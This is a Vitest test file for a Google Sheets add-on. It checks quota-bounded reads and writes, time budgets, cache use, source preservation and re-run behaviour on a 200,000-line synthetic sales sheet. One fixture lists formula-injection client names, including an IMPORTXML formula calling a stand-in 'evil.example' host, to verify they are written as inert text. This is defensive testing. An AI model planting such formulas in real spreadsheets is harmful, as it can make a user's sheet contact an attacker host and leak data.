/**
 * Segmenting a 200,000-line sheet through the built add-on, as the sidebar drives it:
 * startSegment, then continueSegment until the result. Checks the quota design: a bounded number
 * of getValues / setValues (one per block, never per cell), every call inside its simulated time
 * budget, state kept in the cache within its limits, only JSON crossing; and the house rules: every
 * tab written, the source untouched, a user's sheet with a tab's name untouched, text kept as text,
 * a re-run replacing its own tabs in place.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { layoutTab } from '../../core/layout/tab-layout.js';
import { planWrites } from '../../apps-script/plan.js';
import { CALL_BUDGET_MS } from '../../apps-script/segment-job.js';
import { READ_BLOCK_CELLS, TAB_KEY } from '../../apps-script/sheets-port.js';
import { dayFromYmd, serialFromDay } from '../../core/basics/calendar.js';
import type { SheetSpec } from '../../core/report/spec.js';
import { segmentGrids } from '../helpers/pipeline.js';
import type { Cell } from '../../core/read/types.js';
import type { RunRequest } from '../../core/panel/bridge.js';
import { assertPlainJson, buildAddOn, loadServer, type ServerGlobals } from './bundle.js';
import { COSTS, fakeHost, midnightIn, type FakeHost, type FakeSheet, type StoredCell } from './fakes.js';

const ZONE = 'Europe/Moscow';
const LINES = 200_000;
const HOSTILE_CLIENTS = ['=IMPORTXML("http://evil.example","//a")', '+79991234567', '-1', '@risk'];

/** A deterministic sales sheet: client, date (Date cells), amount; a few rows the core rejects. */
function salesGrid(): { grid: (string | number | Date)[][]; serialGrid: Cell[][] } {
  const days = Array.from({ length: 3 * 365 }, (_, d) => ({ date: midnightIn(ZONE, 2023, 1, 1 + d), serial: serialFromDay(dayFromYmd(2023, 1, 1 + d)) }));
  const grid: (string | number | Date)[][] = [['Client', 'Date', 'Amount']];
  const serialGrid: Cell[][] = [['Client', 'Date', 'Amount']];
  let seed = 12345;
  const next = () => (seed = (seed * 48_271) % 2_147_483_647);
  for (let i = 0; i < LINES; i++) {
    const c = next() % 2500;
    const client = c < HOSTILE_CLIENTS.length ? HOSTILE_CLIENTS[c] : `Client ${String(c).padStart(4, '0')}`;
    // Clients above 2000 stop buying after the first year: they become lost.
    const span = c >= 2000 ? 365 : days.length;
    const day = days[(next() % span + (c % 7)) % days.length];
    const amount = (next() % 100_000) / 100 + 1;
    if (i % 50_000 === 7) {
      grid.push([client, 'not a date', amount]);
      serialGrid.push([client, 'not a date', amount]);
      continue;
    }
    grid.push([client, new Date(day.date.getTime()), amount]);
    serialGrid.push([client, day.serial, amount]);
  }
  return { grid, serialGrid };
}

interface Run {
  start: { ok: boolean; jobId: string; totalSteps: number };
  calls: { simulatedMs: number; realMs: number; done: number }[];
  result: { ok: boolean; summary: Record<string, unknown>; tabs: { key: string; name: string }[] };
  startSimulatedMs: number;
  startRealMs: number;
}

function run(server: ServerGlobals, host: FakeHost, request: RunRequest): Run {
  let before = host.log.now;
  let real = performance.now();
  const start = server.startSegment(request) as Run['start'];
  assertPlainJson(start);
  const startSimulatedMs = host.log.now - before;
  const startRealMs = performance.now() - real;
  expect(start.ok).toBe(true);
  const calls: Run['calls'] = [];
  for (;;) {
    before = host.log.now;
    real = performance.now();
    const next = server.continueSegment(start.jobId, request.lang) as { finished: boolean; progress?: { done: number }; result?: Run['result'] };
    assertPlainJson(next);
    calls.push({ simulatedMs: host.log.now - before, realMs: performance.now() - real, done: next.progress?.done ?? start.totalSteps });
    if (next.finished) return { start, calls, result: next.result!, startSimulatedMs, startRealMs };
    expect(calls.length).toBeLessThan(100);
  }
}

const isFormula = (cell: StoredCell) => typeof cell === 'object' && !(cell instanceof Date);

let code: string;
let expected: SheetSpec[];
let sales: ReturnType<typeof salesGrid>;

beforeAll(async () => {
  ({ code } = await buildAddOn());
  sales = salesGrid();
  const outcome = segmentGrids({ sales: sales.serialGrid }, 'en');
  if (!outcome.ok) throw new Error('the core refused the test data');
  expected = outcome.sheets;
});

describe('segmenting a 200,000-line sheet', () => {
  let host: FakeHost;
  let server: ServerGlobals;
  let source: FakeSheet;
  let userKpi: FakeSheet;
  let first: Run;

  beforeAll(() => {
    host = fakeHost({ timeZone: ZONE });
    server = loadServer(code, host);
    source = host.book.addSheet('Sales', sales.grid);
    userKpi = host.book.addSheet('KPI', [['my quarterly notes'], ['=SUM(1,2)']]);
    host.log.reset();
    first = run(server, host, { sources: { sales: 'Sales' }, options: {}, lang: 'en' });
    const lines = first.calls.map((c, i) => `  continue #${i + 1}: ${c.simulatedMs.toFixed(0)} ms simulated, ${c.realMs.toFixed(0)} ms in Node, ${c.done}/${first.start.totalSteps} steps`);
    console.log(
      [`startSegment: ${first.startSimulatedMs.toFixed(0)} ms simulated, ${first.startRealMs.toFixed(0)} ms in Node (read + analyse + plan)`, ...lines].join('\n'),
    );
  });

  it('finishes with the summary and every tab of the report', () => {
    expect(first.result.ok).toBe(true);
    expect(first.result.tabs.map((t) => t.key)).toEqual(expected.map((s) => s.key));
    expect(first.result.summary).toMatchObject({ clients: 2500, rejectedRows: 4 });
    expect(first.start.totalSteps).toBe(planWrites(expected.map(layoutTab)).length);
  });

  it('writes each tab as the core described it, marked as its own', () => {
    for (const spec of expected) {
      const tab = first.result.tabs.find((t) => t.key === spec.key)!;
      const sheet = host.book.sheet(tab.name);
      expect(sheet.metadata.map((m) => [m.key, m.value])).toEqual([[TAB_KEY, spec.key]]);
      layoutTab(spec).tables.forEach((place) => {
        const table = place.spec;
        expect(sheet.rows(place.headerRow + 1, 1, place.columnCount)[0], `${spec.key} header`).toEqual(table.columns.map((c) => c.header));
        if (place.rowCount === 0) return;
        const last = sheet.rows(place.firstDataRow + place.rowCount, 1, place.columnCount)[0];
        const want = table.rows[place.rowCount - 1].map((v, j) => (v === null ? '' : table.columns[j].format === 'date' && typeof v === 'number' ? serialFromDay(v) : v));
        expect(last, `${spec.key} last row`).toEqual(want);
      });
    }
  });

  it('reads the source with one getValues per block and writes with one setValues per block', () => {
    const readBlocks = Math.ceil((LINES + 1) / Math.floor(READ_BLOCK_CELLS / 3));
    const writeBlocks = planWrites(expected.map(layoutTab)).filter((s) => s.kind === 'lines').length;
    const notes = expected.filter((s) => s.notes.length > 0).length;
    expect(host.log.count('Range.getValues')).toBe(readBlocks);
    expect(host.log.count('Range.setValues')).toBe(writeBlocks + notes);
    expect(host.log.count('Range.setNumberFormats')).toBe(writeBlocks + notes);
    expect(host.log.count('Range.setValues')).toBeLessThan(100);
  });

  it('keeps every call inside the time budget and the run state inside the cache limits', () => {
    const worstStep = 2 * COSTS.call + 20_000 * (COSTS.perCellWritten + COSTS.perFormat) + 10 * COSTS.chart;
    for (const call of first.calls) expect(call.simulatedMs).toBeLessThan(CALL_BUDGET_MS + worstStep);
    expect(first.startSimulatedMs).toBeLessThan(60_000);
    expect(host.cache.largestValue).toBeLessThanOrEqual(100 * 1024);
    expect(host.cache.values.size).toBe(0);
  });

  it('leaves the source values exactly as they were', () => {
    const grid = sales.grid;
    expect(source.getLastRow()).toBe(grid.length);
    for (let r = 0; r < grid.length; r++) {
      for (let c = 0; c < 3; c++) {
        const stored = source.cell(r + 1, c + 1);
        const want = grid[r][c];
        if (want instanceof Date) expect((stored as Date).getTime()).toBe(want.getTime());
        else if (stored !== want) expect(stored).toBe(want);
      }
    }
    expect(source.formats.size).toBe(0);
    expect(source.metadata).toEqual([]);
  });

  it("leaves a user's sheet named like a tab alone and writes the tab under a suffixed name", () => {
    expect(userKpi.rows(1, 2, 1)).toEqual([['my quarterly notes'], ['=SUM(1,2)']]);
    expect(userKpi.metadata).toEqual([]);
    expect(first.result.tabs.find((t) => t.key === 'kpi')?.name).toBe('KPI (2)');
  });

  it('writes client names that look like formulas or numbers as text', () => {
    const clients = host.book.sheet('Clients');
    const written = [...clients.values.entries()].filter(([, v]) => HOSTILE_CLIENTS.includes(v as string));
    expect(new Set(written.map(([, v]) => v))).toEqual(new Set(HOSTILE_CLIENTS));
    for (const [key] of written) {
      const [row, column] = key.split(':').map(Number);
      expect(clients.format(row, column)).toBe('@');
    }
    for (const sheet of host.book.sheets.filter((s) => s !== userKpi)) {
      expect([...sheet.values.values()].filter(isFormula), sheet.name).toEqual([]);
    }
  });

  it('replaces its own tabs in place on a re-run, in another language', () => {
    const ids = host.book.sheets.map((s) => s.id);
    const again = run(server, host, { sources: { sales: 'Sales' }, options: {}, lang: 'ru' });
    expect(again.result.ok).toBe(true);
    expect(host.book.sheets.map((s) => s.id)).toEqual(ids);
    expect(host.book.sheets.map((s) => s.name)).toContain('Клиенты');
    expect(host.book.sheets.map((s) => s.name)).toContain('KPI (2)');
    expect(host.book.sheets.flatMap((s) => s.charts)).toHaveLength(expected.flatMap((s) => s.charts).length);
  });
});

describe('a run that cannot start or is cancelled', () => {
  it('says why a sheet cannot be segmented, in the user language', () => {
    const host = fakeHost({ timeZone: ZONE });
    const server = loadServer(code, host);
    host.book.addSheet('Notes', [['just', 'words']]);
    expect(server.startSegment({ sources: { sales: 'Notes' }, options: {}, lang: 'en' })).toEqual({ ok: false, message: expect.stringMatching(/header row/) });
    expect(server.startSegment({ sources: { sales: 'Gone' }, options: {}, lang: 'ru' })).toEqual({ ok: false, message: expect.stringContaining('«Gone»') });
    expect(host.book.sheets).toHaveLength(1);
  });

  it('forgets a cancelled job and reports an expired one', () => {
    const host = fakeHost({ timeZone: ZONE });
    const server = loadServer(code, host);
    host.book.addSheet('Sales', sales.grid.slice(0, 3000));
    const start = server.startSegment({ sources: { sales: 'Sales' }, options: {}, lang: 'en' }) as { jobId: string };
    expect(host.cache.values.size).toBeGreaterThan(1);
    server.cancelSegment(start.jobId);
    expect(host.cache.values.size).toBe(0);
    expect(server.continueSegment(start.jobId, 'en')).toEqual({ finished: true, result: { ok: false, message: expect.stringMatching(/expired/) } });
  });
});
